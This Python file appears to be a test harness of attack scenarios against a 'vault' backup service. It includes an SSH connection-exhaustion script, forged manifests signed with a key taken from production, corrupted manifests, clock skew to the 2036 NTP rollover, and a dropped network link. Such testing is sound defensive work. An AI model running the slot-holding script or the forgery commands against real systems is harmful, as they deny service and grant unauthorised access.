"""Attacks that are to keep the vault's owners out, or to have it throw away
what it stores."""

import time

# Takes every place at the door that it can get, and keeps it.
HOLD = '''
import selectors, socket, sys, time

held, tried, began = set(), selectors.DefaultSelector(), time.monotonic()
told = False
while True:
    while len(tried.get_map()) + len(held) < 130 and len(held) < 100:
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((sys.argv[1], 22))
        tried.register(s, selectors.EVENT_READ)
    for key, _ in tried.select(0.1):
        s = key.fileobj
        tried.unregister(s)
        try:
            banner = s.recv(100)
        except OSError:
            banner = b""
        if banner.startswith(b"SSH-"):
            held.add(s)
        else:
            s.close()
    if not told and (len(held) >= 100 or time.monotonic() - began > 2):
        print("held", len(held), flush=True)
        told = True
'''
Y2036 = 2085978496  # the day that NTP's first era ends


def connections(a):
    process = a.leave_running("python3", "-c", HOLD, a.vault.address)
    a.said += process.stdout.readline()
    a.why = a.vault.sshd_said() + "; she got a place"


def prompts(a):
    for _ in range(12):
        a.leave_running(
            "timeout", "30", "ssh", "alice@" + a.vault.address, "true",
            env={"SSH_AUTH_SOCK": a.scene.agent, "SSH_ASKPASS_REQUIRE":
                 "force", "SSH_ASKPASS": "/run/host/bin/askpass-never"})
    time.sleep(1)
    a.why = "she got a prompt of her own"


def export(a, text, *args):
    """Put a manifest where the vault's unattended job fetches it."""
    a.prod.must("bash", "-c", text, "export", *args)
    done = a.vault.fetch_manifest()
    if done is None:
        a.why = "it reads nothing that production writes"
    else:
        a.said += done.text
        a.why = a.last_words()


# Signed by the key from prod's store, as prod's next one.
FORGE = ('serial=$(($(cat /root/loot-serial) + $1)); shift; '
         'forge key=/root/loot-identity to=/root/vault.pem '
         'out=/srv/manifest/vault realm=shop host="$(cat /root/loot-host)" '
         'serial="$serial" "$@"')


def own_key(a):
    """Her agent tells the public half of the key that she has for vault."""
    a.prod.must_sh('SSH_AUTH_SOCK=$1 ssh-add -L | grep " admin-vault" '
                   '>"$2/own.pub"', a.scene.agent, a.room)
    export(a, FORGE, "1", "ssh=%s/own.pub" % a.room)
    a.again = True


def million(a):
    export(a, FORGE, "2", "fill=1000000")


def serial(a):
    export(a, FORGE, "4", "serial=9223372036854775807")


def broken(a):
    good = "/srv/manifest/vault"
    for text in ("head -c 20000 /dev/urandom >" + good,
                 "head -c 700 /root/good >" + good,
                 "{ cat /root/good; echo x; } >" + good,
                 ": >" + good, "cat /root/good >" + good):
        export(a, text)
    export(a, FORGE.replace("loot-identity", "own-identity"), "3")


def clock(a):
    a.vault.clock_wrong(Y2036 - int(a.vault.now()))
    a.again = True

    def back():
        a.vault.clock_wrong(0)
        a.vault.accept_clock()

    a.undo.append(back)
    a.why = "she got in by a code on paper, then by her phone again"


def network(a):
    link = "to-" + a.vault.name
    a.sh('head -c 30000000 /dev/zero >"$1/big"', a.room)
    a.leave_running(
        "rsync", "-e", "ssh -i %s -o IdentitiesOnly=yes -o BatchMode=yes" %
        a.vault.push_key, a.room + "/big", "push-prod@%s:big" %
        a.vault.address)
    time.sleep(0.3)
    a.prod.must("ip", "link", "set", link, "down")
    a.undo.append(lambda: a.prod.must("ip", "link", "set", link, "up"))
    a.why = "a night less; what is stored and her way in need no link to prod"
